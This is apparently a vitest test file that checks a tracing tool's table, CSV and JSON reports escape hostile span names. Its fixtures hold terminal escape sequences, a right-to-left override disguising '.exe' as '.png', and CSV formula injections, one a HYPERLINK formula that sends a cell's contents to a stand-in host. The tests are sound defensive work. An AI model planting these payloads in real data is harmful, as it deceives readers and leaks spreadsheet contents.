import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { buildReport } from '../../src/report/build-report.js'
import { criticalPath } from '../../src/report/critical-path.js'
import { formatReport } from '../../src/report/format-report.js'
import { reportSchema } from '../../src/report/report-schema.js'
import { createStore, type Store } from '../../src/store/create-store.js'
import { migrate } from '../../src/store/migrate.js'
import { makeTempDirectory } from '../helpers/temp-directory.js'
import { insertRows } from './report-fixture.js'
import { workflowRunRows, type RunSpec, type StepSpec } from './workflow-span-rows.js'

/*
 * Span data is whatever an instrumented app (or anyone who can reach the collector)
 * sent: names with terminal escapes and spreadsheet formulas. One run carries them
 * in its workflow name, step names, model and tag; the report must print them so
 * that a terminal shows them and a spreadsheet does not run them.
 */
const directory = makeTempDirectory('report-output-safety')
const baseMs = Math.floor(Date.now() / 1000) * 1000 - 2 * 3_600_000
const from = new Date(baseMs - 60_000)
const to = new Date(baseMs + 3_600_000)

/** Clears the screen, then sets the window title and rings the bell. */
const workflow = 'evil\u001b[2J\u001b]0;pwned\u0007'
/** A one-byte C1 CSI, red from here on. */
const model = 'gpt\u009b31m-red'
/** A right-to-left override: "gnp.exe" shows as "exe.png". */
const tenant = '\u202egnp.exe'
const formulaSteps = ['=HYPERLINK("http://x.test/?q="&A1,"click")', '+1', '-1+2', '@SUM(A1)', '\tcmd', '\r=1']
/** Every character a terminal acts on (newlines apart, which the layout uses). */
// eslint-disable-next-line no-control-regex -- finding control characters is this pattern's whole job
const terminalControls = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/

let store: Store

beforeAll(async () => {
  store = await createStore({ url: `chdb://${directory.path}` })
  await migrate({ store })
  const steps: StepSpec[] = formulaSteps.map((name, index) => ({
    name,
    offsetMs: index * 100,
    durationMs: 100,
    requests: [{ offsetMs: 10, attempts: [{ provider: 'openai', model, costUsd: `0.00${index + 1}`, inputTokens: 100, outputTokens: 10, durationMs: 80 }] }],
  }))
  const run: RunSpec = { workflow, runId: 'hostile', startMs: baseMs, durationMs: 1_000, tags: { tenant }, steps }
  await insertRows(store, workflowRunRows(run), 'report-output-safety')
})
afterAll(async () => {
  await store?.close()
  directory.remove()
})

describe('report output from hostile span data', () => {
  it('prints the table with every control character escaped, still aligned', async () => {
    const report = await buildReport({ store, from, to, by: ['workflow', 'step', 'model', 'tag:tenant'], workflow })
    expect(report.rows).toHaveLength(6)
    const text = formatReport(report, 'table')
    expect(text).not.toMatch(terminalControls)
    const [title, , ...rest] = text.trimEnd().split('\n')
    expect(title).toMatch(/ {2}workflow evil\\u001b\[2J\\u001b\]0;pwned\\u0007$/)
    const table = rest.slice(0, rest.indexOf(''))
    expect(new Set(table.map((line) => line.length)).size).toBe(1)
    const tabRow = table.find((line) => line.includes('\\u0009cmd'))!
    expect(tabRow.split(/ {2,}/).slice(0, 4)).toEqual(['evil\\u001b[2J\\u001b]0;pwned\\u0007', '\\u0009cmd', 'gpt\\u009b31m-red', '\\u202egnp.exe'])
    expect(table.some((line) => line.includes('  \\u000d=1  '))).toBe(true)
  })

  it('prints the critical-path table with the workflow and step names escaped', async () => {
    const report = await criticalPath({ store, workflow, from, to })
    expect(report.runs).toBe(1)
    const text = formatReport(report, 'table')
    expect(text).not.toMatch(terminalControls)
    expect(text).toMatch(/^switchyard critical path {2}workflow evil\\u001b\[2J\\u001b\]0;pwned\\u0007 {2}/)
    expect(text).toMatch(/^\\u0009cmd +1 +100 ms/m)
  })

  it('writes CSV whose text cells cannot start a formula, quoted where they must be, figures untouched', async () => {
    const report = await buildReport({ store, from, to, by: ['step', 'tag:tenant'] })
    const csv = formatReport(report, 'csv')
    const records = csv.trimEnd().split('\n')
    expect(records[0]).toBe('step,tag_tenant,calls,runs,input_tokens,output_tokens,cost_usd,cost_per_run_usd,p50_ms,p95_ms,p99_ms,ttft_p50_ms,error_rate,retry_rate,fallback_rate,refused_requests,downgraded_requests,workflow_runs,cost_per_workflow_run_usd')
    // Most expensive first: the steps in reverse order of the fixture.
    expect(records.slice(1)).toEqual([
      `"'\r=1",\u202egnp.exe,1,1,100,10,0.006,0.006,80,80,80,,0,0,0,0,0,1,0.006`,
      `'\tcmd,\u202egnp.exe,1,1,100,10,0.005,0.005,80,80,80,,0,0,0,0,0,1,0.005`,
      `'@SUM(A1),\u202egnp.exe,1,1,100,10,0.004,0.004,80,80,80,,0,0,0,0,0,1,0.004`,
      `'-1+2,\u202egnp.exe,1,1,100,10,0.003,0.003,80,80,80,,0,0,0,0,0,1,0.003`,
      `'+1,\u202egnp.exe,1,1,100,10,0.002,0.002,80,80,80,,0,0,0,0,0,1,0.002`,
      `"'=HYPERLINK(""http://x.test/?q=""&A1,""click"")",\u202egnp.exe,1,1,100,10,0.001,0.001,80,80,80,,0,0,0,0,0,1,0.001`,
    ])
    const path = formatReport(await criticalPath({ store, workflow, from, to }), 'csv')
    expect(path.split('\n').filter((line) => /^[=+\-@\t\r]/.test(line))).toEqual([])
    expect(path).toContain(`\n"'=HYPERLINK(""http://x.test/?q=""&A1,""click"")",1,100,`)
  })

  it('writes JSON with C1 and bidi characters escaped, parsing back into the same report', async () => {
    const report = await buildReport({ store, from, to, by: ['model', 'tag:tenant'] })
    const json = formatReport(report, 'json')
    expect(json).not.toMatch(terminalControls)
    expect(json).toContain('"model": "gpt\\u009b31m-red"')
    expect(json).toContain('"tag:tenant": "\\u202egnp.exe"')
    expect(reportSchema.parse(JSON.parse(json))).toEqual(report)
  })
})
